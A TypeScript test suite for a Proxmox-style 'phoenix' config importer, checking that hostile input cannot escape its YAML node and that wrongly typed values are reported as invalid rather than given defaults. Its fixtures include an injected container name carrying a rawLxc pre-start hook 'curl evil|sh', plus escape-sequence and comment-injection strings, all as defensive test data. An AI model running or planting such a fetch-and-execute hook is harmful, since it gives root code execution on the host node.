// What the importer writes from hostile or careless input: nothing from the original's files leaves its YAML node (a
// line break in a name must not become a `rawLxc:` line, which runs commands as root on the node), comments and report
// lines stay one line each, and a value of the wrong kind is reported as invalid and left for the catalog to refuse,
// never replaced by a default.
import { strict as assert } from "assert";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { parseDocument } from "yaml";
import { importPhoenix } from "../tools/phoenix/importer";
import { type ImportResult, ImportError, hasUnprintable } from "../tools/phoenix/model";
import { checkReadsBack, renderCatalog } from "../tools/phoenix/render";
import { formatImportReport } from "../tools/phoenix/report";
import { ROOT, editedOriginal, importCli } from "./helpers";
import { HOSTILE, SAFE, SEED, mulberry32 } from "./hostile";

const FIXTURES = path.join(ROOT, "test", "fixtures", "phoenix-configs");
const edited = (edit: Parameters<typeof editedOriginal>[1]) => editedOriginal(FIXTURES, edit);
const outDir = () => path.join(fs.mkdtempSync(path.join(os.tmpdir(), "phoenix-safety-")), "guests");

/** A written file as the catalog reads it (same parser options), and its leading comment lines. */
const readBack = (text: string): { data: unknown; comments: string[]; errors: number } => {
    const doc = parseDocument(text, { uniqueKeys: true });
    const lines = text.split("\n");
    const firstData = lines.findIndex((l) => !l.startsWith("#"));
    return { data: doc.errors.length === 0 ? doc.toJS() : undefined, comments: lines.slice(0, firstData), errors: doc.errors.length };
};

/** Every file renderCatalog writes reads back as exactly the data the import meant; the header is comments only. */
const assertFilesReadBack = (r: ImportResult): Map<string, string> => {
    const files = renderCatalog(r);
    const dataOf = new Map<string, unknown>([["defaults.yaml", r.defaults], ...r.guests.map((g) => [g.file, g.guest] as [string, unknown])]);
    for (const [file, data] of dataOf) {
        const back = readBack(files.get(file)!);
        assert.equal(back.errors, 0, file);
        assert.deepEqual(back.data, JSON.parse(JSON.stringify(data)), `${file} reads back differently from what the import meant`);
        for (const c of back.comments) assert.ok(c.startsWith("# ") && !hasUnprintable(c), `${file}: comment line ${JSON.stringify(c)}`);
    }
    return files;
};

const notesOf = (r: ImportResult, id: number) => r.guests.find((g) => g.id === id)!.notes;

describe("import-phoenix: nothing from the input breaks out of its YAML node", () => {
    const INJECTED = 'web\nrawLxc: ["lxc.hook.pre-start: /bin/sh -c \'curl evil|sh\'"]';

    it("a name with a line break and a rawLxc line stays the name's value: no hook in the file, the catalog refuses the name alone", () => {
        const from = edited(({ lxc }) => void (lxc.lxc_configs["101"].name = INJECTED));
        const out = outDir();
        const run = importCli("--from", from, "--out", out);
        assert.equal(run.status, 0, run.stderr);
        const text = fs.readFileSync(path.join(out, "101-ct101.yaml"), "utf8");
        const back = readBack(text);
        assert.equal((back.data as any).name, INJECTED, "the name is kept as received, inside its own value");
        assert.deepEqual((back.data as any).rawLxc, ["lxc.mount.auto: sys:rw"], "101's own raw line only: no hook");
        const [start, , end] = (parseDocument(text).get("name", true) as { range: [number, number, number] }).range;
        assert.ok(!/lxc\.hook/.test(text.slice(0, start) + text.slice(end)), `the hook occurs only inside the name's value:\n${text}`);
        assert.deepEqual(back.comments, ["# yaml-language-server: $schema=./schema.json", '# ct101: imported from phoenix_lxc_configs.json lxc_configs["101"] by npm run import-phoenix.']);
        // The report names it escaped, once, as invalid; the catalog check refuses the name and nothing else.
        assert.ok(!run.stdout.split("\n").some((l) => l.startsWith("rawLxc")), run.stdout);
        assert.match(run.stdout, /^ {4}invalid {3}name: received "web\\nrawLxc: \[\\"lxc\.hook\.pre-start: .*\\"\]", expected a hostname: .*: written as received \(name\), so the catalog refuses it until you state the value; not replaced by a default/m);
        assert.match(run.stdout, /^Container 101 ct101 -> 101-ct101\.yaml$/m);
        const check = run.stdout.slice(run.stdout.indexOf("Catalog check"));
        assert.match(check, /The guest catalog has 1 problem:\n.*101-ct101\.yaml:5:7 name: expected a hostname/);
    });

    it("escapes what comments and report lines would show: control characters, separators, bidirectional overrides", () => {
        const hostile = "x\r\u2028\u0085\u202e\x1b[2J\t\0\ud800y";
        const from = edited(({ lxc }) => {
            lxc.lxc_configs["103"].name = hostile;
            lxc.lxc_configs["103"][`unknown\n    added     key`] = 1;
            lxc.lxc_configs["101"].features = ["base_setup", `fake\r\n# injected`];
        });
        const r = importPhoenix(from);
        const files = assertFilesReadBack(r);
        const header = readBack(files.get(r.guests.find((g) => g.id === 101)!.file)!).comments;
        assert.deepEqual(header.slice(2), ["# Needs scripts this project does not have yet: features/fake\\r\\n# injected.sh."]);
        const report = formatImportReport(r);
        for (const line of report.split("\n")) assert.ok(!hasUnprintable(line), `report line ${JSON.stringify(line)}`);
        assert.ok(report.includes("    dropped   unknown\\n    added     key: not a key the original read"), report);
        assert.ok(report.includes('name: received "x\\r\\u2028\\u0085\\u202e\\u001b[2J\\t\\u0000\\ud800y"'), report);
    });

    it("property: every string of the original, replaced by seeded hostile text, reads back exactly from every written file", () => {
        const random = mulberry32(SEED);
        const pick = <T>(xs: readonly T[]): T => xs[Math.floor(random() * xs.length)];
        const hostile = (base: string): string => {
            const at = Math.floor(random() * (base.length + 1));
            const extra = Array.from({ length: 1 + Math.floor(random() * 6) }, () => (random() < 0.6 ? pick([...HOSTILE, "\u202e", "\ud800", ": ", "- ", "---", "&a", "*a", "!!js/function", "<<"]) : pick([...SAFE]))).join("");
            return `${base.slice(0, at)}${extra}${base.slice(at)}`;
        };
        let strings = 0;
        const mutate = (v: any): any => {
            if (Array.isArray(v)) return v.map(mutate);
            if (v !== null && typeof v === "object") return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, mutate(x)]));
            if (typeof v === "string" && random() < 0.5) return (strings++, hostile(v));
            return v;
        };
        for (let round = 0; round < 4; round++) {
            strings = 0;
            const from = edited((files) => {
                files.lxc.lxc_configs = Object.fromEntries(Object.entries(files.lxc.lxc_configs).map(([id, g]) => [id, mutate(g)]));
                files.vm.vms = mutate(files.vm.vms);
                files.hv = { ...mutate(files.hv), [hostile("extra_key")]: hostile("value") };
            });
            const r = importPhoenix(from);
            assert.ok(strings > 100, `round ${round}: ${strings} strings replaced`);
            assertFilesReadBack(r);
            for (const line of formatImportReport(r).split("\n")) assert.ok(!hasUnprintable(line), `seed ${SEED} round ${round}: report line ${JSON.stringify(line)}`);
        }
    });

    it("refuses to write a file that would not read back as the import meant, naming the file and the field", () => {
        // What the old header did: a line smuggled out of a comment became a key of its own.
        assert.throws(() => checkReadsBack("101-web.yaml", '# web\nrawLxc: ["lxc.hook.pre-start: x"]\nname: web\n', { name: "web" }),
            (e: unknown) => e instanceof ImportError && /^refusing to write 101-web\.yaml: rawLxc \(undefined\) would not read back as imported; nothing was written$/.test(e.message));
        assert.throws(() => checkReadsBack("defaults.yaml", "a: 1\na: 2\n", { a: 1 }), /refusing to write defaults\.yaml: \(file\) \(\{"a":1\}\) would not read back as imported \(Map keys must be unique\)/);
        assert.doesNotThrow(() => checkReadsBack("x.yaml", "# ok\nname: web\n", { name: "web" }));
    });
});

describe("import-phoenix: a value of the wrong kind is invalid, never missing, never replaced", () => {
    it("memory_mb: \"lots\" is reported as invalid with what was expected, written as received, and refused by the catalog at its line", () => {
        const from = edited(({ lxc }) => void (lxc.lxc_configs["102"].memory_mb = "lots"));
        const r = importPhoenix(from);
        const notes = notesOf(r, 102).filter((n) => n.key === "memory_mb");
        assert.deepEqual(notes.map((n) => n.kind), ["invalid"], "one note, not 'added ... missing'");
        assert.equal(notes[0].detail, 'received "lots", expected memory in MiB, a whole number: written as received (memoryMb), so the catalog refuses it until you state the value; not replaced by a default, since the importer cannot know what was meant');
        assert.equal(r.guests.find((g) => g.id === 102)!.guest.memoryMb, "lots");
        const out = outDir();
        const run = importCli("--from", from, "--out", out);
        assert.equal(run.status, 0, run.stderr);
        assert.match(fs.readFileSync(path.join(out, "102-traefik-internal.yaml"), "utf8"), /^memoryMb: lots$/m);
        assert.match(run.stdout, /102-traefik-internal\.yaml:9:11 memoryMb: expected memory in MiB, a whole number 16\.\.4194304, received "lots"$/m);
    });

    it("a clone that inherits an invalid size says where it came from; the original's defaults are not used past it", () => {
        const from = edited(({ lxc }) => {
            lxc.lxc_configs["900"].cores = "many";
            delete lxc.lxc_configs["103"].cores;
        });
        const r = importPhoenix(from);
        assert.equal(r.guests.find((g) => g.id === 103)!.guest.cores, "many");
        assert.deepEqual(notesOf(r, 103).filter((n) => n.key === "cores").map((n) => `${n.kind}: ${n.detail.split(":")[0]}`), [
            "invalid: missing here; its clone source 900's (a clone keeps its source's configuration) states \"many\", expected CPU cores, a whole number",
        ]);
    });

    it("other keys of the wrong kind (unprivileged, start_at_boot, ip, boot_delay, a VM's cores and disk) are written as received, never read as missing", () => {
        const from = edited(({ lxc, vm }) => {
            Object.assign(lxc.lxc_configs["101"], { unprivileged: "yes", start_at_boot: "always", boot_delay: "soon" });
            lxc.lxc_configs["101"].network_config.ip = 5;
            Object.assign(vm.vms.find((v: any) => v.vmid === 1002), { cores: "four", disk_size_gb: [64] });
        });
        const r = importPhoenix(from);
        const g101 = r.guests.find((g) => g.id === 101)!.guest as any;
        assert.deepEqual([g101.unprivileged, g101.startOnBoot, g101.network.ip, g101.startup.upDelay, g101.startup.downDelay], ["yes", "always", 5, "soon", "soon"]);
        assert.deepEqual(notesOf(r, 101).filter((n) => n.kind === "invalid").map((n) => n.key).sort(), ["boot_delay", "network_config.ip", "start_at_boot", "unprivileged"]);
        assert.ok(!notesOf(r, 101).some((n) => n.key === "network_config.ip" && n.kind !== "invalid"), "not also 'missing: imported as dhcp'");
        const g1002 = r.guests.find((g) => g.id === 1002)!.guest as any;
        assert.deepEqual([g1002.cores, g1002.diskGb], ["four", [64]]);
        assert.deepEqual(notesOf(r, 1002).filter((n) => n.kind === "invalid").map((n) => n.key).sort(), ["cores", "disk_size_gb"]);
        assertFilesReadBack(r);
    });

    it("a name that is not text is invalid too: the file is named after ct<id>, the value written as received", () => {
        const r = importPhoenix(edited(({ lxc }) => void (lxc.lxc_configs["103"].name = { first: "step" })));
        const g = r.guests.find((x) => x.id === 103)!;
        assert.deepEqual([g.file, g.guest.name], ["103-ct103.yaml", { first: "step" }]);
        assert.match(g.notes.find((n) => n.key === "name")!.detail, /^received \{"first":"step"\}, expected a host name \(text\)/);
    });
});
